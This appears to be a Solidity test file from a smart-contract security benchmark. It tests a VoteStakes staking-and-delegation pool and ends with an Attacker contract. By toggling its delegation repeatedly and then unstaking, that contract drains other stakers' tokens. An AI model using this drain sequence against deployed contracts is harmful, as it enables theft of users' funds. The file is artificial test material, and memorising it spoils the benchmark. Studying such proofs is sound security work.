// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./VoteStakes.sol";
import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";

// assay-canary-28c86814-3581-4b90-95cc-d6fce22b8ad6

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
}

contract Vote is ERC20, IVotes {
    mapping(address => address) public delegates;

    constructor() ERC20("Vote", "VOTE") {
        _mint(msg.sender, 1_000e18);
    }

    function delegate(address d) external {
        delegates[msg.sender] = d;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant REP = address(0x2E9);
    uint256 private constant START = 1_760_000_000;

    Vote private vote;
    VoteStakes private pool;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vote = new Vote();
        pool = new VoteStakes(vote);
        _fund(ANA, 400e18);
        _fund(BEN, 100e18);
        vm.prank(ANA);
        pool.stake(300e18, 30 days);
        mallory = new Attacker(pool, vote);
        vote.transfer(address(mallory), 100e18);
    }

    function _fund(address w, uint256 n) private {
        vote.transfer(w, n);
        vm.prank(w);
        vote.approve(address(pool), type(uint256).max);
    }

    // what those who have not delegated could take out now
    function safe() public view returns (uint256) {
        uint256 n = vote.balanceOf(address(pool));
        return n < 300e18 ? n : 300e18;
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        pool.stake(50e18, 10 days);
        pool.delegate(REP);
        Box box = pool.boxes(REP);
        require(vote.balanceOf(address(box)) == 50e18 && vote.delegates(address(box)) == REP, "in a box");
        vm.warp(START + 1 days);
        pool.stake(50e18, 10 days);
        require(vote.balanceOf(address(box)) == 100e18 && pool.total() == 400e18, "with the rest");
        pool.delegate(ANA);
        require(vote.balanceOf(pool.home(ANA)) == 100e18 && vote.balanceOf(address(box)) == 0, "another box");
        require(pool.unstake() == 80e18 && vote.balanceOf(BEN) == 80e18 && pool.fines() == 20e18, "early");
        vm.stopPrank();
        require(vote.balanceOf(address(pool)) == 320e18, "fine");
        pool.sweep(REP);
        require(vote.balanceOf(REP) == 20e18 && pool.fines() == 0, "swept");
        vm.warp(START + 30 days);
        vm.prank(ANA);
        require(pool.unstake() == 300e18 && pool.total() == 0 && vote.balanceOf(ANA) == 400e18, "in time");
    }

    function test_RefusesOthers() public {
        vm.startPrank(BEN);
        vm.expectRevert(VoteStakes.Auth.selector);
        pool.sweep(BEN);
        pool.stake(1e18, 0);
        pool.delegate(REP);
        Box box = pool.boxes(REP);
        vm.expectRevert(Box.Own.selector);
        box.send(BEN, 1e18);
        vm.stopPrank();
    }

    function test_RefusesLocks() public {
        vm.startPrank(ANA);
        vm.expectRevert(VoteStakes.Lock.selector);
        pool.stake(1, 30 days - 1);
        vm.expectRevert(VoteStakes.Lock.selector);
        pool.stake(1, 730 days + 1);
        vm.expectRevert(VoteStakes.Zero.selector);
        pool.stake(0, 30 days);
        vm.expectRevert(VoteStakes.Same.selector);
        pool.delegate(address(0));
        pool.delegate(REP);
        vm.expectRevert(VoteStakes.Same.selector);
        pool.delegate(REP);
        vm.stopPrank();
    }

    function test_RefusesNothing() public {
        vm.startPrank(BEN);
        vm.expectRevert(VoteStakes.Zero.selector);
        pool.unstake();
        vm.expectRevert(VoteStakes.Zero.selector);
        pool.delegate(REP);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = safe();
        exploit();
        require(safe() + 300e18 <= before, "nothing lost");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Sends its stake to a box, calls it home by name only, and sends it off again with the tokens of others.
contract Attacker {
    VoteStakes private pool;
    IERC20 private vote;

    constructor(VoteStakes pool_, IERC20 vote_) {
        pool = pool_;
        vote = vote_;
    }

    function run() external {
        vote.approve(address(pool), type(uint256).max);
        pool.stake(100e18, 0);
        pool.delegate(address(this));
        for (uint256 i; i < 3; ++i) {
            pool.delegate(address(0));
            pool.delegate(address(this));
        }
        pool.unstake();
    }
}
